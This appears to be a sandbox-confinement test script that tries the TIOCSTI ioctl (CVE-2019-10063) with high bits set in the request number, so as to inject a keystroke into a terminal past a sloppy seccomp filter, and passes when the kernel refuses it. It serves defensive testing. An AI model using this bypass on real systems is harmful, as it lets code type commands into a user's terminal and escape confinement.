# /// attack
# guarantee = "syscalls"
# summary = "Types into a terminal as if its user did, with high bits set that a careless filter compares."
# reference = "CVE-2019-10063; ioctl_tty(2), TIOCSTI"
# success = "the terminal takes it"
# stage = ["terminal"]
# needs = ["seccomp", "typing"]
# refusal = { default = "errno" }
# ///

import ctypes
import os

from kit import could_not_run, refused, refused_with, succeeded, syscall, target

TIOCSTI = 0x5412
try:
    terminal = os.open(target("TERMINAL"), os.O_RDONLY)  # ours from now on: we lead a session
except OSError:
    terminal = 0
tries = 0
for request in (TIOCSTI, TIOCSTI | 1 << 32, TIOCSTI | 1 << 63):
    word = ctypes.c_long(request if request < 1 << 63 else request - (1 << 64))
    number = {"x86_64": 16, "aarch64": 29}[os.uname().machine]
    tries += refused_with(lambda: syscall(number, terminal, word, ctypes.c_char_p(b"x")), "EPERM")
if tries == 3:
    refused("EPERM three times")
if tries:
    could_not_run(f"refused {tries} of 3 times")
succeeded()
